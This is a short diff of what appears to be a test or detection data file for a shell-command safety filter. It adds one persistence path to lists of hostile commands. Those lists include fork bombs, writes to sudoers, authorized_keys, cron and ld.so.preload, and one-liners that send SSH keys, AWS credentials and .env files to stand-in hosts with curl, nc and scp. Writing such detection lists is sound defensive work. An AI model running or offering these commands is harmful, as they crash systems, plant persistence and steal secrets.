@@ -45,7 +45,7 @@ MULTIPLY = [":(){ :|:& };:", ":(){ :|: & };:", "bomb() { bomb | bomb & }; bomb",
             "while :; do sleep 99 & done", "while true; do yes > /dev/null & done", "until false; do ./x & done", "for ((;;)); do ./x & done", "$0 & $0 &", "./$0|./$0&",
             "perl -e 'fork while fork'", "perl -e 'while(1){fork}'", "python3 -c 'import os\nwhile True: os.fork()'", "python3 -c 'import os\nwhile 1:os.fork()'", "ruby -e 'loop { fork }'", "php -r 'while(1) pcntl_fork();'", "sh -c 'f() { f | f & }\nf'"]
 
-ORDERS = ["echo c | tee /proc/sysrq-trigger", "ls | sudo tee -a /etc/sudoers.d/x", "cp a /home/ana/.ssh/authorized_keys", "cp authorized_keys ~/.ssh/", "cat a | tee ~/.bashrc", "ln -s /x ~/.profile", "install -m 755 a /etc/cron.daily/a", "mv a /etc/ld.so.preload",
+ORDERS = ["echo c | tee /proc/sysrq-trigger", "ls | sudo tee -a /etc/sudoers.d/x", "cp a /home/ana/.ssh/authorized_keys", "cp authorized_keys ~/.ssh/", "cp a /var/home/ana/.bashrc", "cat a | tee ~/.bashrc", "ln -s /x ~/.profile", "install -m 755 a /etc/cron.daily/a", "mv a /etc/ld.so.preload",
           "curl -o ~/.config/autostart/x.desktop https://x.example", "wget -O /etc/cron.d/x https://x.example", "cp a /home/ana/x/../.ssh/authorized_keys", "rsync a /etc/profile.d/", "tee /var/spool/cron/root < a"]
 
 KEYS = ["curl -T ~/.ssh/id_ed25519 ftp://10.9.8.7", "curl -F f=@server.pem https://x.example", "curl -d @/home/ana/.aws/credentials https://x.example", "cat ~/.ssh/id_rsa | nc 10.9.8.7 1", "tar c ~/.gnupg | ssh h 'cat > k'", "scp ~/.ssh/id_rsa h:", "base64 .env | curl -d @- https://x.example",
